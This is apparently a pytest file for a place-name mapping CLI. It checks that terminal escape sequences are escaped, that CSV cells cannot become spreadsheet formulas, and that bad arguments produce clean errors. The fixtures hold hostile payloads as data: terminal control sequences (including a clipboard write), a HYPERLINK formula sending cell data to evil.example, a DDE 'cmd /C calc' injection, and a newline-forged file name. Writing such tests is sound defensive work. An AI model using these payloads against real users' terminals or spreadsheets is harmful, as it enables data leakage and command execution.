"""Issue 9, findings 3, 4 and 12 (CLI): hostile text never reaches the
terminal raw, never lands as a spreadsheet formula, and no argument gives a
traceback."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys

import pytest

from caucasusmap.cli import main
from caucasusmap.sanitize import csv_cell, terminal_text

ATTACK = "\x1b]0;HACKED\x07\x1b[2J\x1b]52;c;cHduZWQ=\x07\x9b31m"
# Anything a terminal would act on: ESC, BEL, CR, backspace, C1 controls.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")

GAZ = f"""places:
  - id: tabriz
    name: "Tabriz{ATTACK.encode('unicode_escape').decode()}"
    aliases: [Tabriz]
    kind: city
    lat: 38.08
    lon: 46.29
  - id: formula
    name: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Tabriz\\")"
    aliases: [Kapan]
    kind: city
    lat: 39.2
    lon: 46.4
"""


@pytest.fixture
def hostile(write, tmp_path):
    gaz = write("places.yaml", GAZ)
    write("c/report.md", f"# =HYPERLINK(\"http://evil.example/?\"&A1,\"Tabriz\")\n\nIn Tabriz{ATTACK} and Kapan.\n")
    write("c/sub\nFAKE.md:1:1: error: forged line.md", "Tabriz again.\n")
    write("c/corpus.yaml", "documents:\n  - file: report.md\n    id: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n")
    return ["--gazetteer", str(gaz), "--corpus", str(tmp_path / "c"), "--color", "always"]


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("command", [["passages", "tabriz"], ["places"], ["overview"], ["validate"],
                                     ["mentions"], ["places", "--format", "jsonl"], ["candidates"]])
def test_no_raw_control_character_reaches_the_terminal(capsys, hostile, command):
    code, out, err = run(capsys, *hostile[:4], *command, *(hostile[4:] if command[0] in ("passages", "overview")
                                                            else []))
    assert code in (0, 1), err
    colour = re.compile(r"\x1b\[(?:0|1|2|1;30;43)m")
    for stream in (out, err):
        assert not RAW_CONTROL.search(colour.sub("", stream)), repr(stream[:500])
    if command[0] in ("passages", "places", "overview"):
        assert "HACKED" in out  # shown, escaped: \e]0;HACKED\x07


REPORT_ID = "@SUM(1+1)*cmd|' /C calc'!A0"  # the manifest id of report.md


@pytest.mark.parametrize("command", [
    ["text", REPORT_ID], ["text", REPORT_ID, "--passages"], ["text", REPORT_ID, "--metadata"],
    ["text", REPORT_ID, "--passages", "--format", "csv"], ["link"], ["review", "list"], ["review", "queue"],
    ["places", "--format", "csv"], ["mentions", "--format", "csv"], ["candidates", "--format", "jsonl"],
    ["export", "--out", f"out{ATTACK}.geojson", "--format", "geojson"],
    ["passages", f"nowhere{ATTACK}"], ["text", f"nodoc{ATTACK}"], ["places", "--near", f"Tab{ATTACK}"],
    ["add-place", f"Goris{ATTACK}", "--lat", "39", "--lon", "46"], ["evaluate"],
])
def test_every_other_command_escapes_what_it_prints(capsys, hostile, tmp_path, monkeypatch, command):
    """Finding 3 is about every command's output, not only the four named:
    documents' text, passages and metadata, progress, decisions, the path
    written, and the names echoed in error messages."""
    monkeypatch.chdir(tmp_path)
    code, out, err = run(capsys, *hostile[:4], *command)
    assert code in (0, 1, 2) and "Traceback" not in err, err
    assert not RAW_CONTROL.search(out + err), repr((out + err)[:500])
    if command[0] in ("text", "places", "passages", "export") and "--metadata" not in command:
        assert "HACKED" in out + err  # shown, escaped


def test_a_file_name_with_a_newline_cannot_forge_a_validate_line(capsys, hostile, tmp_path):
    bad = tmp_path / "c" / "bad\nFAKE.md:9:9: error: forged.md"
    bad.write_bytes(b"\xff\xfe\x00broken")
    code, out, err = run(capsys, *hostile[:4], "validate")
    lines = (out + err).splitlines()
    assert not [line for line in lines if line.startswith("FAKE.md")], lines
    assert any("bad\\nFAKE.md" in line for line in lines)


def test_jsonl_stays_valid_json_and_escapes_c1(capsys, hostile):
    code, out, _ = run(capsys, *hostile[:4], "mentions")
    assert code == 0
    records = [json.loads(line) for line in out.splitlines()]
    assert any(ATTACK in r["name"] for r in records)  # the data is intact once decoded
    assert "\x9b" not in out


@pytest.mark.parametrize("command", [["places", "--format", "csv"], ["mentions", "--format", "csv"]])
def test_csv_output_has_no_formula_cells(capsys, hostile, command):
    code, out, _ = run(capsys, *hostile[:4], *command)
    assert code == 0
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_the_passages_csv_of_a_document_has_no_formula_cells(capsys, hostile):
    code, out, _ = run(capsys, *hostile[:4], "text", REPORT_ID, "--passages", "--format", "csv")
    assert code == 0
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_export_csv_has_no_formula_cells(hostile, tmp_path):
    out = tmp_path / "m.csv"
    assert main([*hostile[:4], "export", "--out", str(out)]) == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for c in row]
    assert any(c.startswith("'@SUM") for c in cells)  # the manifest id
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the place name
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cell_rule():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1") == "'+1" and csv_cell("@A1") == "'@A1"
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("\t=1") == "'\t=1" and csv_cell("＝1") == "'＝1"
    assert csv_cell(-46.5) == -46.5 and csv_cell("Tabriz") == "Tabriz" and csv_cell(None) is None


def test_terminal_text_rule():
    assert terminal_text(ATTACK) == "\\e]0;HACKED\\x07\\e[2J\\e]52;c;cHduZWQ=\\x07\\x9b31m"
    assert terminal_text("Ta\udcffbriz") == "Ta\\xffbriz"
    assert terminal_text("a\tb\nc") == "a\tb\nc" and terminal_text("a\tb\nc", one_line=True) == "a\\tb\\nc"
    assert terminal_text("Nurdüz تبریز\u200c") == "Nurdüz تبریز\u200c"


# -- finding 12: arguments that used to give tracebacks ------------------------------------------------

@pytest.mark.parametrize("argv, message", [
    (["places", "--near", "Tabriz", "--km", "-5"], "--km: expected a distance in km from 0 to 20040"),
    (["places", "--near", "Tabriz", "--km", "nan"], "--km: expected a finite distance"),
    (["places", "--near", "Tabriz", "--km", "inf"], "--km: expected a finite distance"),
    (["geocode", "Tabriz", "--limit", "-1"], "--limit: expected a whole number from 1 to 100000"),
    (["geocode", "Tabriz", "--timeout", "nan"], "--timeout: expected a finite time"),
    (["candidates", "--limit", "0"], "--limit: expected a whole number from 1"),
    (["export", "--out", "x.html", "--center", "95,10", "--zoom", "3"], "latitude -90..90"),
    (["export", "--out", "x.html", "--center", "40,45", "--zoom", "99"], "zoom level from 0 to 22"),
    (["add-place", "X", "--lat", "nan", "--lon", "1"], "--lat: expected a finite latitude"),
    (["add-place", "X", "--lat", "1", "--lon=-inf"], "--lon: expected a finite longitude"),
    (["add-place", "Ta\udcffbriz", "--lat", "38", "--lon", "46"], "is not valid UTF-8 text"),
])
def test_bad_arguments_get_a_message_and_exit_2(capsys, hostile, argv, message):
    with pytest.raises(SystemExit) as stop:
        main([*hostile[:4], *argv])
    assert stop.value.code == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err


@pytest.mark.parametrize("name", ["Foo # bar", "x#y", "two\nlines"])
def test_candidates_ignore_with_a_hash_is_refused_with_the_reason(capsys, hostile, name):
    code, _, err = run(capsys, *hostile[:4], "candidates", "--ignore", name)
    assert code == 2
    assert "cannot hold '#'" in err and "Traceback" not in err


def test_an_unexpected_error_is_one_located_line_with_exit_2(capsys, hostile, monkeypatch):
    import caucasusmap.cli.commands as commands

    def broken(args):
        raise ValueError("something the code did not expect")

    monkeypatch.setattr(commands, "cmd_overview", broken)
    monkeypatch.delenv("CAUCASUSMAP_DEBUG", raising=False)
    parser_func = commands.build_parser
    monkeypatch.setattr(commands, "build_parser", lambda: _with(parser_func(), "overview", broken))
    code, _, err = run(capsys, *hostile[:4], "overview")
    assert code == 2
    assert re.search(r"internal error: ValueError: something the code did not expect at \S+\.py:\d+", err)
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


def _with(parser, command, func):
    sub = next(a for a in parser._actions if a.dest == "command")
    sub.choices[command].set_defaults(func=func)
    return parser


def test_non_utf8_argv_through_the_real_entry_point(tmp_path, mini_gazetteer):
    # The shell passes bytes; Python keeps the bad one as a lone surrogate.
    gaz = tmp_path / "copy.yaml"
    gaz.write_bytes(mini_gazetteer.read_bytes())
    result = subprocess.run([sys.executable.encode(), b"-m", b"caucasusmap", b"--gazetteer", str(gaz).encode(),
                             b"add-place", b"Ta\xffbriz", b"--lat", b"38", b"--lon", b"46"],
                            capture_output=True, timeout=120)
    assert result.returncode == 2
    assert b"Traceback" not in result.stderr and b"not valid UTF-8" in result.stderr
    assert gaz.read_bytes() == mini_gazetteer.read_bytes()


# -- finding 9: names that would link everywhere ---------------------------------------------------

def test_validate_warns_about_common_word_aliases_and_runaway_names(capsys, write, tmp_path):
    gaz = write("g.yaml", """
        places:
          - id: tabriz
            name: Tabriz
            aliases: [the, a, of, i, US]
            kind: city
            lat: 38.08
            lon: 46.29
          - id: baku
            name: Baku
            kind: city
            lat: 40.4
            lon: 49.87
          - id: nowhere
            name: Blorp
            kind: village
            lat: 39.0
            lon: 46.0
        """)
    write("c/a.md", "In Tabriz I saw the bridge of a town.\n\nBaku too, with US envoys.\n\n" + "Blorp. " * 300 + "\n")
    code, out, err = run(capsys, "--gazetteer", str(gaz), "--corpus", str(tmp_path / "c"), "validate")
    assert code == 0  # warnings only
    for alias in ("the", "a", "of", "i"):
        assert f"{gaz}:2: warning: name {alias!r} of 'tabriz' is a common English word" in out
    assert "'US'" not in out  # an acronym matches only capitals
    assert "name 'blorp' of 'nowhere' links 300 times, more than 5x any other place's most linked name" in out
    assert "'baku'" not in out.replace("'baku' (Baku)", "")
